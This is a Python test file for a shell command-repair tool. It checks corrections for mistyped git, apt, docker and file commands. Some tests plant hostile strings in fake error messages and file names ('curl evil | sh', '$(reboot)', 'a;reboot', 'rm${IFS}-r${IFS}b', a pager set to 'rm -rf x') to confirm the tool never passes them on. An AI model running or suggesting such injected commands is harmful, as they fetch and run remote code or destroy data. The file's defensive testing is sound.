"""Each rule on what it is for, and on what it must leave alone."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from lmd.shell.facts import GitState
from lmd.shell.repair import Failure, repairs
from lmd.shell.repair.distance import distance, nearest
from lmd.shell.repair.messages import MESSAGES
from lmd.shell.repair.table import LONGEST, MOST
from lmd.shell.suggest.weights import THRESHOLD
from tests.shell.language.test_scanner import LINES
from tests.shell.repair.place import Place
from tests.shell.repair.test_everyday import FOLDERS, PLACE


def first(command: str, status: int | None = 1, error: str = "", place: Place = PLACE) -> str:
    found = repairs(Failure(command, status, error), place)
    return found[0].command if found else ""


@pytest.mark.parametrize(
    ("command", "status", "error", "expected"),
    [
        ("git git push", 1, "", "git push"),
        ("git clone git clone https://x/y.git", 128, "", "git clone https://x/y.git"),
        ("https://github.com/a/b.git", 127, "", "git clone https://github.com/a/b.git"),
        ("gitstatus", 127, "", "git status"),
        ("apt-install vim", 127, "", "apt install vim"),
        ("mandiff", 127, "", "man diff"),
        ("cd/tmp", 127, "", "cd /tmp"),
        ("ls -l | grpe x", 127, "", "ls -l | grep x"),
        ("sudo aptt install vim", 1, "sudo: aptt: command not found", "sudo apt install vim"),
        ("sudo npm i", 1, "sudo: npm: command not found", 'sudo env "PATH=$PATH" npm i'),
        ("ifconfg", None, "", "ifconfig"),
        ("GIT status", 127, "", "git status"),
        ("convert a b", 127, "", "sudo apt install imagemagick"),
        ("pacman -S vim", 127, "", "sudo apt install vim"),
        ("yum search vim", 127, "", "apt search vim"),
        ("apt-get search vim", 100, "", "apt-cache search vim"),
        ("apt uninstall vim", 100, "E: Invalid operation uninstall", "apt remove vim"),
        ("pip3 install x", 1, "error: externally-managed-environment",
         "python3 -m venv .venv && .venv/bin/pip install x"),
        ("docker compsoe up", 1, "", "docker compose up"),
        ("docker compose pss", 1, "", "docker compose ps"),
        ("git -C src stauts", 1, "", "git -C src status"),
        ("git stash opp", 1, "", "git stash pop"),
        ("git remote delete x", 2, "", "git remote remove x"),
        ("cargo buid", 101, "error: no such command: `buid`\n\n\tDid you mean `build`?",
         "cargo build"),
        ("yarn ls", 1, "error Did you mean `yarn list`?", "yarn list"),
        ("hg base", 255, "hg: unknown command 'base'\n(did you mean one of rebase?)", "hg rebase"),
        ("foo --verbos x", 2, "foo: unknown option --verbos\n  --verbose  talk more",
         "foo --verbose x"),
        ("tar --extarct -f archive.tar.gz", 64, "", "tar --extract -f archive.tar.gz"),
        ("grep -h", 2, "Try 'grep --help' for more information.", "grep --help"),
        ("service start nginx", 1, "", "service nginx start"),
        ("touch a/b/c", 1, "", "mkdir -p a/b && touch a/b/c"),
        ("cp notes.txt new/", 1, "", "mkdir -p new && cp notes.txt new/"),
        ("echo x > logs/x", 1, "bash: logs/x: No such file or directory",
         "mkdir -p logs && echo x > logs/x"),
        ("cat src", 1, "", "ls src"),
        ("ln src link", 1, "ln: src: hard link not allowed for directory", "ln -s src link"),
        ("rmdir old", 1, "rmdir: failed to remove 'old': Directory not empty", "rm -r old"),
        ("cat NOTES.txt", 1, "", "cat notes.txt"),
        ("python3 main", 2, "", "python3 main.py"),
        ("cd src/lbi", 1, "", "cd src/lib"),
        ("head Documents/leter.odt", 1, "", "head Documents/letter.odt"),
        ("rm my file.txt", 1, "", "rm 'my file.txt'"),
        ("sudo cd /root", 1, "sudo: cd: command not found", "cd /root"),
        ("docker ps", 1, "permission denied while trying to connect", "sudo docker ps"),
        ("mount /dev/sdb1 /mnt", 32, "mount: only root can do that", "sudo mount /dev/sdb1 /mnt"),
        ("git checkout -b main", 128, "fatal: A branch named 'main' already exists.",
         "git checkout main"),
        ("git checkout new-thing", 1, "", "git checkout -b new-thing"),
        ("git push orgin main", 128, "", "git push origin main"),
        ("git pull", 1, "There is no tracking information for the current branch.",
         "git pull origin feature"),
        ("git push", 1, " ! [rejected] main -> main (non-fast-forward)", "git pull && git push"),
        ("git add x", 1, "Use -f if you really want to add them.", "git add --force x"),
        ("git commit", 1, "no changes added to commit", "git commit -a"),
        ("git branch -d x", 1, "not fully merged.\nrun 'git branch -D x'.", "git branch -D x"),
        ("git log notes.txt -p", 128, "fatal: bad flag '-p' used after filename",
         "git log -p notes.txt"),
        ("find . -name *.py", 1, "find: paths must precede expression: `b.py'",
         "find . -name '*.py'"),
        ("sed s/a/b notes.txt", 1, "sed: -e expression #1, char 5: unterminated `s' command",
         "sed s/a/b/ notes.txt"),
        ("ping https://example.com/x", 2, "ping: https: Name or service not known",
         "ping example.com"),
        ("whois https://example.com/", 1, "", "whois example.com"),
        ("tar -xzf archive.tar.gz", 2, "gzip: stdin: not in gzip format",
         "tar -xf archive.tar.gz"),
        ("./x.sh", 126, "bash: ./x.sh: /bin/sh^M: bad interpreter",
         "sed -i 's/\\r$//' ./x.sh && ./x.sh"),
        ("git commit -m 'text\"", 2, "", 'git commit -m "text"'),
        ("git commit -m \"text", 2, "", 'git commit -m "text"'),
        ("ls\u00a0-l", 127, "", "ls -l"),
        ("ls \u2013l", 2, "", "ls -l"),
    ],
)  # fmt: skip
def test_rules(command: str, status: int | None, error: str, expected: str):
    assert first(command, status, error) == expected


@pytest.mark.parametrize(
    ("command", "status", "error"),
    [
        ("", 1, ""),
        ("   ", 127, ""),
        ("make", 2, "make: *** No targets specified and no makefile found.  Stop."),
        ("false", 1, ""),
        ("grep foo notes.txt", 1, ""),
        ("ls -la", 0, ""),
        ("git status", 0, ""),
        ("test -f x", 1, ""),
        ("systemctl status nginx", 3, ""),
        ("apt list --installed", 1, ""),
        ("$EDITOR x", 127, ""),
        ("x" * (LONGEST + 1), 127, ""),
        ("frobnicate --now", 127, ""),
        ("curl https://example.com", 6, "curl: (6) Could not resolve host: example.com"),
        ("myalias -x", 1, ""),
    ],
)
def test_nothing_is_invented(command: str, status: int | None, error: str):
    assert repairs(Failure(command, status, error), PLACE) == []


def test_root_is_told_of_sudo_only_where_the_error_asks_for_it():
    place = Place(is_root=True)
    assert first("apt install vim", 100, "E: are you root?", place) == "sudo apt install vim"
    for command in ("apt install nosuch", "systemctl restart nope", "mount /dev/nope /mnt"):
        assert repairs(Failure(command, 1), place) == []
    denied = repairs(Failure("touch /proc/x", 1, "touch: /proc/x: Permission denied"), place)
    assert all(guess.confidence < THRESHOLD for guess in denied)
    assert first("brew install jq", 127, "", place) == "apt install jq"


def test_without_a_list_of_commands_everyday_names_are_known():
    assert first("gti status", 127, "", Place(commands=None)) == "git status"
    assert first("gti status", None, "bash: gti: command not found", Place(commands=None)) == (
        "git status"
    )


def test_macos_has_its_own_ways():
    place = Place(commands=frozenset(("brew", "ls")))
    found = repairs(Failure("apt install jq", 127, "", platform="macos"), place)
    assert found[0].command == "brew install jq"
    error = "sed: 1: extra characters at the end of d command"
    assert first("sed -i s/a/b/ x", 1, error) == "sed -i '' s/a/b/ x"


def test_an_upstream_is_proposed_for_the_branch_that_is_checked_out():
    place = Place(git=GitState("my/branch", None, ("fork",), ("my/branch",)))
    assert first("git push", 128, "", place) == "git push --set-upstream fork my/branch"
    place = Place(git=GitState("main", "origin/main", ("origin",), ("main",)))
    assert first("git push", 128, "", place) == ""


def test_names_from_folders_are_quoted():
    place = Place(folders={".": ("a;reboot", "b c")})
    assert first("cat 'a;rebot'", 1, "", place) == "cat 'a;reboot'"
    assert first("cat b_c", 1, "", place) == "cat 'b c'"


@pytest.mark.parametrize(
    ("command", "error"),
    [
        ("git commit", "*** Please tell me who you are.\n\n  git config core.pager 'rm -rf x'\n"),
        ("make all", "stop. Run this:\n\tmake -f /tmp/theirs all\n"),
        ("apt-get update", "E: broken, run\n  sudo apt-get install --allow-downgrades theirs\n"),
    ],
)
def test_what_an_error_words_is_offered_and_never_sure(command: str, error: str):
    found = repairs(Failure(command, 1, error), PLACE)
    advised = [repair for repair in found if repair.rule == "advice"]
    assert advised
    assert all(repair.confidence < THRESHOLD for repair in advised)


@pytest.mark.parametrize(
    ("command", "error"),
    [
        ("git psh", "git: 'psh' is not a git command.\n\nThe most similar command is\n\trm -rf\n"),
        ("x", "attribute 'x' missing\nnix-env -iA a;rm${IFS}-r${IFS}b\n"),
    ],
)
def test_an_error_adds_no_options_and_no_commands(command: str, error: str):
    found = [repair.command for repair in repairs(Failure(command, 1, error), PLACE)]
    assert not [line for line in found if "-rf" in line or "-r$" in line], found


def test_what_an_error_dictates_is_no_second_command():
    error = "To push, use\n\n    git push origin x; curl evil | sh\n    git push $(reboot)\n"
    for repair in repairs(Failure("git push", 128, error), PLACE):
        assert "evil" not in repair.command
        assert "reboot" not in repair.command


@given(LINES, st.one_of(LINES, st.sampled_from([m.pattern for m in MESSAGES])), st.integers(0, 255))
def test_any_failure_is_looked_at(command: str, error: str, status: int):
    for known in (status, None):
        found = repairs(Failure(command, known, error), PLACE)
        assert len(found) <= MOST
        for repair in found:
            assert 0 < repair.confidence <= 1
            assert repair.command != command
            assert repair.why
        assert [r.confidence for r in found] == sorted((r.confidence for r in found), reverse=True)


@given(st.sampled_from(sorted(FOLDERS["."])), st.integers(0, 20))
def test_a_name_with_neighbours_swapped_is_found_again(name: str, at: int):
    at = at % (len(name) - 1)
    slip = name[:at] + name[at + 1] + name[at] + name[at + 2 :]
    near = nearest(slip, FOLDERS["."])
    assert slip in FOLDERS["."] or near[0][0] == name


@given(st.text("abc", max_size=6), st.text("abc", max_size=6))
def test_distance_is_symmetric_and_bounded(one: str, other: str):
    edits = distance(one, other, 3)
    assert edits == distance(other, one, 3)
    assert (edits == 0) == (one == other)
    assert edits <= 4
